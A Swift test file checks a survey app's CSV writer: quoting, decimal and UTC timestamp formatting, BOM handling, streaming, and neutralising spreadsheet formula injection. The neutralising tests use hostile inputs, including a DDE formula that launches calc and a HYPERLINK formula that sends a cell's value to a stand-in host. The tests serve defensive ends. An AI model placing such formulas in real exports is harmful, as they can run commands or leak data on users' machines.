import Foundation
import Testing
@testable import SurveyApp

@Suite("CSV writer")
struct CSVWriterTests {
    /// Writes `rows` and returns the bytes as text (no BOM).
    private func write(_ rows: [[CSVCell]], format: CSVFormat) -> String {
        var writer = CSVWriter(format: format)
        for row in rows { writer.append(row: row) }
        return String(decoding: writer.takeBytes(), as: UTF8.self)
    }

    /// The text of a single cell as written (without the line ending).
    private func cell(_ cell: CSVCell, format: CSVFormat = .excelBrazil) -> String {
        // Drop the CRLF by bytes: as a String, "\r\n" is one Character.
        var writer = CSVWriter(format: format)
        writer.append(row: [cell])
        let bytes = writer.takeBytes()
        #expect(bytes.suffix(2) == [0x0D, 0x0A])
        return String(decoding: bytes.dropLast(2), as: UTF8.self)
    }

    private func parse(_ bytes: [UInt8], format: CSVFormat) throws -> [[String]] {
        try RFC4180Parser(separator: format.separator).parse(bytes)
    }

    static let awkwardTexts = [
        "São Paulo — ação, coração",
        "Ñandú über Café",
        "👍🏽 família 👨‍👩‍👧 🇧🇷",
        "He said \"yes\"",
        "\"",
        "\"\"quoted\"\"",
        "semi;colon",
        "com,ma",
        "line one\nline two",
        "windows\r\nbreak",
        "trailing newline\n",
        "  spaces kept  ",
        "",
        "tab\tinside",
    ]

    @Test("text round-trips through an RFC 4180 parser", arguments: [CSVFormat.excelBrazil, .analysis])
    func roundTrip(format: CSVFormat) throws {
        var writer = CSVWriter(format: format)
        writer.append(header: ["id", "resposta"])
        for (index, text) in Self.awkwardTexts.enumerated() {
            writer.append(row: [.integer(index), .text(text)])
        }
        let records = try parse(writer.takeBytes(), format: format)
        #expect(records.count == Self.awkwardTexts.count + 1)
        #expect(records[0] == ["id", "resposta"])
        for (index, text) in Self.awkwardTexts.enumerated() {
            #expect(records[index + 1] == [String(index), text])
        }
    }

    @Test("quotes only when needed, per the format's separator")
    func quoting() {
        #expect(cell(.text("plain")) == "plain")
        #expect(cell(.text("a;b")) == "\"a;b\"")
        #expect(cell(.text("a,b")) == "a,b")
        #expect(cell(.text("a,b"), format: .analysis) == "\"a,b\"")
        #expect(cell(.text("a;b"), format: .analysis) == "a;b")
        #expect(cell(.text("say \"hi\"")) == "\"say \"\"hi\"\"\"")
        #expect(cell(.text("x\ny")) == "\"x\ny\"")
        #expect(cell(.text("x\ry")) == "\"x\ry\"")
    }

    @Test("formula triggers get a leading apostrophe", arguments: [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+55 11 99999-0000", "'+55 11 99999-0000"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tindent", "'\tindent"),
        ("\rcr", "\"'\rcr\""),
        ("=HYPERLINK(\"http://x/?\"&A1;\"clique\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"clique\"\")\""),
        (" =1+1", " =1+1"),
        ("a=b", "a=b"),
        ("'already", "'already"),
        ("", ""),
    ])
    func neutralising(text: String, expected: String) {
        #expect(cell(.text(text)) == expected)
    }

    @Test("neutralised fields still parse, with the apostrophe as data")
    func neutralisedRoundTrip() throws {
        var writer = CSVWriter(format: .excelBrazil)
        writer.append(header: ["=cmd|' /C calc'!A0"])
        writer.append(row: [.text("-2+3"), .integer(-2)])
        let records = try parse(writer.takeBytes(), format: .excelBrazil)
        #expect(records == [["'=cmd|' /C calc'!A0"], ["'-2+3", "-2"]])
    }

    @Test("neutralising can be switched off in a custom format")
    func neutralisingOff() {
        let format = CSVFormat(
            separator: UInt8(ascii: ","), decimalSeparator: UInt8(ascii: "."),
            includesByteOrderMark: false, timestampStyle: .iso8601UTC, neutralizesFormulas: false
        )
        #expect(cell(.text("=1+1"), format: format) == "=1+1")
    }

    @Test("integers are plain digits and never neutralised")
    func integers() {
        #expect(cell(.integer(0)) == "0")
        #expect(cell(.integer(-5)) == "-5")
        #expect(cell(.integer(1_234_567)) == "1234567")
        #expect(cell(.integer(Int.max)) == String(Int.max))
        #expect(cell(.integer(Int.min)) == String(Int.min))
        // Around the short path (one to four digits) and the long one.
        for value in [7, 10, 42, 99, 100, 999, 1000, 9999, 10_000, 99_999, -9999, -10_000] {
            #expect(cell(.integer(value)) == String(value))
        }
    }

    @Test("timestamp fields are zero-padded to their widths")
    func timestampPadding() {
        var writer = CSVWriter(format: .analysis)
        writer.appendTimestamp(UTCDateTime(year: 5, month: 1, day: 2, hour: 3, minute: 4, second: 9))
        writer.appendTimestamp(UTCDateTime(year: 987, month: 12, day: 31, hour: 23, minute: 59, second: 58))
        writer.appendTimestamp(UTCDateTime(year: 12345, month: 10, day: 10, hour: 10, minute: 10, second: 10))
        writer.endRow()
        #expect(String(decoding: writer.takeBytes(), as: UTF8.self) == "0005-01-02T03:04:09Z,0987-12-31T23:59:58Z,12345-10-10T10:10:10Z\r\n")
    }

    @Test("decimals are formatted exactly with the format's separator", arguments: [
        (CSVCell.decimal(Decimal(string: "1234.5")!, fractionDigits: 2), "1234,50", "1234.50"),
        (.money(Decimal(string: "-1234.5")!), "-1234,50", "-1234.50"),
        (.money(Decimal(12)), "12,00", "12.00"),
        (.money(Decimal(string: "2.675")!), "2,68", "2.68"),
        (.money(Decimal(string: "-0.005")!), "-0,01", "-0.01"),
        (.money(Decimal(string: "0.004")!), "0,00", "0.00"),
        (.decimal(Decimal(string: "1234.5")!), "1234,5", "1234.5"),
        (.decimal(Decimal(string: "0.000001")!), "0,000001", "0.000001"),
        (.decimal(Decimal(string: "1e30")!), "1000000000000000000000000000000", "1000000000000000000000000000000"),
        (.decimal(Decimal(string: "2.5")!, fractionDigits: 0), "3", "3"),
        (.decimal(Decimal(string: "12345678901234567890.123456789")!), "12345678901234567890,123456789", "12345678901234567890.123456789"),
        (.decimal(.nan), "", ""),
    ])
    func decimals(value: CSVCell, excel: String, analysis: String) {
        #expect(cell(value, format: .excelBrazil) == excel)
        #expect(cell(value, format: .analysis) == analysis)
    }

    @Test("0.1 + 0.2 is exactly 0.3 in Decimal output")
    func decimalExactness() {
        let sum = Decimal(string: "0.1")! + Decimal(string: "0.2")!
        #expect(cell(.decimal(sum)) == "0,3")
        #expect(cell(.money(sum)) == "0,30")
        // The same through Double would print 0.30000000000000004.
        #expect(String(0.1 + 0.2) != "0.3")
    }

    @Test("decimal commas never need quoting with ';'")
    func decimalCommaRoundTrip() throws {
        var writer = CSVWriter(format: .excelBrazil)
        writer.append(row: [.money(Decimal(string: "1.5")!), .decimal(Decimal(string: "-7.25")!)])
        #expect(try parse(writer.takeBytes(), format: .excelBrazil) == [["1,50", "-7,25"]])
    }

    @Test("timestamps in UTC per preset")
    func timestamps() {
        let date = Date(timeIntervalSince1970: 1_795_342_530)
        #expect(cell(.timestamp(date), format: .analysis) == "2026-11-22T10:15:30Z")
        #expect(cell(.timestamp(date), format: .excelBrazil) == "2026-11-22 10:15:30")
        // Fractions of a second are truncated, not rounded up to the next second.
        #expect(cell(.timestamp(Date(timeIntervalSince1970: 1_795_342_530.999)), format: .analysis) == "2026-11-22T10:15:30Z")
        #expect(cell(.timestamp(Date(timeIntervalSince1970: -1)), format: .analysis) == "1969-12-31T23:59:59Z")
        #expect(cell(.timestamp(Date(timeIntervalSince1970: 1_709_164_800)), format: .analysis) == "2024-02-29T00:00:00Z")
        #expect(cell(.timestamp(Date(timeIntervalSince1970: -2_203_848_000)), format: .analysis) == "1900-03-01T12:00:00Z")
        #expect(cell(.timestamp(Date(timeIntervalSince1970: 4_133_980_799)), format: .analysis) == "2100-12-31T23:59:59Z")
        #expect(cell(.timestamp(Date(timeIntervalSince1970: .infinity)), format: .analysis) == "")
    }

    @Test("booleans, empties and line endings")
    func otherCells() {
        let text = write([[.boolean(true), .empty, .boolean(false)], [.empty, .text("x")]], format: .excelBrazil)
        #expect(text == "1;;0\r\n;x\r\n")
        #expect(write([[.integer(1), .integer(2)]], format: .analysis) == "1,2\r\n")
    }

    @Test("BOM only in the Excel preset")
    func byteOrderMark() {
        var excel = CSVWriter(format: .excelBrazil)
        #expect(excel.bom() == [0xEF, 0xBB, 0xBF])
        excel.appendBOM()
        excel.append(header: ["Nome"])
        #expect(Array(excel.takeBytes().prefix(3)) == [0xEF, 0xBB, 0xBF])

        var analysis = CSVWriter(format: .analysis)
        #expect(analysis.bom().isEmpty)
        analysis.appendBOM()
        analysis.append(header: ["Nome"])
        #expect(analysis.takeBytes() == Array("Nome\r\n".utf8))
    }

    @Test("chunked output equals one-shot output, cell-by-cell equals row API")
    func streaming() {
        let rows: [[CSVCell]] = (0..<500).map { [.integer($0), .text("linha \($0); \"ok\""), .money(Decimal($0) / 4)] }
        var oneShot = CSVWriter(format: .excelBrazil)
        for row in rows { oneShot.append(row: row) }
        let expected = oneShot.takeBytes()

        var chunked = CSVWriter(format: .excelBrazil, initialCapacity: 256)
        var collected: [UInt8] = []
        for row in rows {
            for cell in row { chunked.append(cell) }
            chunked.endRow()
            if chunked.byteCount > 1000 { collected += chunked.takeBytes() }
        }
        collected += chunked.takeBytes()
        #expect(collected == expected)
        #expect(chunked.byteCount == 0)
    }
}
